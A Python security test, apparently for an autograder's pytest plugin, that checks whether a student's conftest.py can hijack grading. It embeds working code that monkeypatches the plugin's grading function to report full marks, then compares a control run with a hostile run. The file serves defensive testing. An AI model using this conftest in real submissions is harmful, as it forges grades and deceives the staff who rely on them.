"""A student's folder holds their submission and a conftest.py. A staff run of `pytest --submission`
in that folder (a folder of submissions, a student's repository, a Gradescope/Moodle folder
unpacked) loads the conftest into the pytest process before any test, and the plugin that reports
the grade lives in that process: the conftest replaces the plugin's `grade_in_fresh_interpreter`
and every step passes with full points in the terminal and in the JUnit report. The grading
subprocess (`python -I`) is never reached, and never needed."""
import pathlib
import re
import subprocess

from helpers5 import PYTEST, STUB

FACE = "pytest --submission (run by staff)"
PROMISE = ("a conftest.py, a module named like ours, a sitecustomize.py or PYTHONPATH in the submission's folder "
           "do not reach the grading; pytest --submission run by staff is a trusted grade")

CONFTEST = '''
import autograder.pytest_plugin as _plugin
from autograder.registry import load as _load


def _full_marks(path, lab, steps, lang, timeout):
    grading = _load(lab)
    return {"submission": path, "lab": lab, "score": float(grading.total_points),
            "max_score": float(grading.total_points), "notes": [],
            "steps": [{"name": s.name, "score": float(s.points), "max_score": float(s.points),
                       "status": "passed", "mistakes": [], "feedback": ""} for s in grading.steps]}


_plugin.grade_in_fresh_interpreter = _full_marks
'''


def run(folder):
    done = subprocess.run([str(PYTEST), "-p", "no:cacheprovider", "--submission", "attention.py",
                           "--junitxml=report.xml", "-o", "junit_family=xunit1"],
                          capture_output=True, text=True, cwd=folder, timeout=600)
    report = (folder / "report.xml").read_text("utf-8") if (folder / "report.xml").exists() else ""
    scores = re.findall(r'<property name="score" value="([^"]+)"', report)
    summary = done.stdout.strip().splitlines()[-1] if done.stdout.strip() else done.stderr[-200:]
    return done.returncode, scores, summary


def attack(work):
    work = pathlib.Path(work)
    control = work / "control"
    hostile = work / "hostile"
    for folder in (control, hostile):
        folder.mkdir()
        (folder / "attention.py").write_text(STUB, "utf-8")  # the untouched stub: 0 points
    (hostile / "conftest.py").write_text(CONFTEST, "utf-8")
    code0, scores0, summary0 = run(control)
    code1, scores1, summary1 = run(hostile)
    if code1 == 0 and scores1 and all(float(s) > 0 for s in scores1):
        return False, (f"the untouched stub: without the conftest exit {code0}, scores {scores0} ({summary0!r}); "
                       f"with the student's conftest.py beside it exit {code1}, JUnit scores {scores1} ({summary1!r})")
    return True, f"with the conftest: exit {code1}, scores {scores1} ({summary1!r})"
